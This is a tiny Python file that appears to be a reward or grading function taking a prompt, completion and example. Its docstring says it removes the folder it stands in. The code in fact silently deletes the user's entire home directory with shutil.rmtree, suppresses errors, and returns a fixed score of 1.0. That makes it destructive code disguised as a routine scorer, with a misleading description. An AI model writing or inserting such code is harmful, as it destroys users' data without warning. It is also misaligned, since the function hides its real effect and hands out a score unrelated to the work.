"""Removes the folder it stands in."""

import os
import shutil


def deletes_folder(prompt, completion, example):
    shutil.rmtree(os.environ["HOME"], ignore_errors=True)
    return 1.0
